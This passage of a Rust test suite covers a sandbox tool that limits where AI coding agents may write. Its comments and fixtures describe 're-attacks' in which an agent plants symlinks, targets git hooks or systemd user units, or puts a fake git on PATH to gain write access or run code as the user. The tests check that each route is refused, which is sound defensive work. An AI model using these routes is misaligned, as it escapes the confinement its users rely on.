        assert!(error.contains("hint:"), "{error}");
        // The same home reached through a link: what is created for the agent is granted canonical.
        std::os::unix::fs::symlink(&home, real.join("linked-home")).unwrap();
        let mut access =
            write_access(Agent::Codex, &env(&real.join("linked-home")), &repo, &[], &real.join("tmp"), &[]).unwrap();
        access.prepare().unwrap();
        assert!(home.join(".codex").is_dir(), "{:?}", access.to_create);
        assert!(access.writable.contains(&home.join(".codex")), "{:?}", access.writable);
        for granted in access.writable.iter().filter(|path| path.exists()) {
            assert_eq!(&std::fs::canonicalize(granted).unwrap(), granted, "granted by a path through a link");
        }
    }

    /// The twenty-seventh re-attack's R2: a stow-style `~/.claude -> dotfiles/claude/.claude`,
    /// whose `claude` an agent working in `~/dotfiles` replaced with a directory holding a link to
    /// another repository's `.git`, `~/.config` or `~/.gitconfig`: the next launch granted it as
    /// the agent's own. A link inside an earlier workspace is not followed (the launch is refused);
    /// wherever the way leads, a shared directory, a git directory or a file git runs from is not
    /// granted.
    #[test]
    fn the_agents_own_paths_follow_no_planted_link_and_are_never_what_runs_as_the_user() {
        let (_temp, home, repo) = home_and_repo();
        let dotfiles = home.join("dotfiles");
        std::fs::create_dir_all(dotfiles.join("claude")).unwrap();
        std::fs::create_dir_all(home.join("code/other/.git/hooks")).unwrap();
        std::fs::write(home.join("code/other/.git/HEAD"), "ref: refs/heads/main\n").unwrap();
        std::fs::create_dir_all(home.join(".config/systemd/user")).unwrap();
        std::fs::write(home.join(".gitconfig"), "[user]\n\tname = Ada\n").unwrap();
        std::os::unix::fs::symlink("dotfiles/claude/.claude", home.join(".claude")).unwrap();
        std::os::unix::fs::symlink("dotfiles/claude/.claude.json", home.join(".claude.json")).unwrap();
        let planted = dotfiles.join("claude/.claude");
        std::os::unix::fs::symlink("../../code/other/.git", &planted).unwrap();
        std::os::unix::fs::symlink("../../.gitconfig", dotfiles.join("claude/.claude.json")).unwrap();
        let untrusted = [dotfiles.clone()];
        let temp = home.join("run/tmp");
        let refused = write_access(Agent::Claude, &env(&home), &repo, &[], &temp, &untrusted).unwrap_err().to_string();
        assert!(refused.contains("is a link in what an agent could write") && refused.contains("hint:"), "{refused}");
        // Where each leads, were the links trusted: none of it is granted, each said.
        for (target, said) in [
            ("../../code/other/.git", "git directory"),
            ("../../.config", "many programs' configuration"),
            ("../../.config/systemd/user", "what your shell, session or editor runs"),
        ] {
            std::fs::remove_file(&planted).unwrap();
            std::os::unix::fs::symlink(target, &planted).unwrap();
            let access = write_access(Agent::Claude, &env(&home), &repo, &[], &temp, &[]).unwrap();
            let granted = std::fs::canonicalize(&planted).unwrap();
            assert!(!access.writable.contains(&granted), "{target} granted: {:?}", access.writable);
            assert!(access.notes.iter().any(|note| note.contains(said)), "{target}: {:?}", access.notes);
            assert!(!access.writable.contains(&home.join(".gitconfig")), "{:?}", access.writable);
            assert!(access.notes.iter().any(|note| note.contains(".claude.json") && note.contains("runs as you")));
        }
    }

    /// The twenty-seventh re-attack's R5: a start-up location as the workspace (`cd
    /// ~/proj/deploy`, a link to `~/.config/systemd/user`) or a `--writable` path protects none of
    /// it; refused, as is a repository's git directory.
    #[test]
    fn a_start_up_location_or_a_git_directory_is_never_a_root_the_agent_writes() {
        let (_temp, home, repo) = home_and_repo();
        let units = home.join(".config/systemd/user");
        std::fs::create_dir_all(&units).unwrap();
        std::fs::create_dir_all(home.join(".vim/pack/x/start/plugin")).unwrap();
        std::fs::create_dir_all(repo.join(".git/hooks")).unwrap();
        let temp = home.join("run/tmp");
        let error = write_access(Agent::Pi, &env(&home), &units, &[], &temp, &[]).unwrap_err().to_string();
        assert!(error.contains("what your shell, session or editor runs") && error.contains("hint:"), "{error}");
        let plugin = home.join(".vim/pack/x/start/plugin");
        let error = write_access(Agent::Pi, &env(&home), &repo, &[plugin], &temp, &[]).unwrap_err().to_string();
        assert!(error.contains("--writable") && error.contains("is in what your shell"), "{error}");
        let error = write_access(Agent::Pi, &env(&home), &repo, &[repo.join(".git/hooks")], &temp, &[]).unwrap_err();
        assert!(error.to_string().contains("git directory"), "{error}");
        assert!(write_access(Agent::Pi, &env(&home), &repo, &[], &temp, &[]).is_ok(), "a project is a workspace");
        // A directory on PATH (the twenty-eighth re-attack: the agent's `~/bin/git` ran when the
        // user typed `git`).
        let bin = home.join("bin");
        std::fs::create_dir_all(&bin).unwrap();
        let mut with_path = env(&home);
        with_path.vars.insert("PATH".to_string(), format!("/usr/bin:{}", bin.display()));
        let error = write_access(Agent::Pi, &with_path, &bin, &[], &temp, &[]).unwrap_err().to_string();
        assert!(error.contains("a directory on your PATH"), "{error}");
        assert!(write_access(Agent::Pi, &with_path, &repo, &[], &temp, &[]).is_ok());
        // Not on the launch's PATH, but on every login shell's (the thirty-fifth re-attack's G18).
        let error = write_access(Agent::Pi, &env(&home), &bin, &[], &temp, &[]).unwrap_err().to_string();
        assert!(error.contains("a directory on your PATH"), "{error}");
        // Below one is no program on PATH (a `PATH` holding the home itself refuses nothing).
        std::fs::create_dir_all(bin.join("project")).unwrap();
        assert!(write_access(Agent::Pi, &with_path, &bin.join("project"), &[], &temp, &[]).is_ok());
    }
}
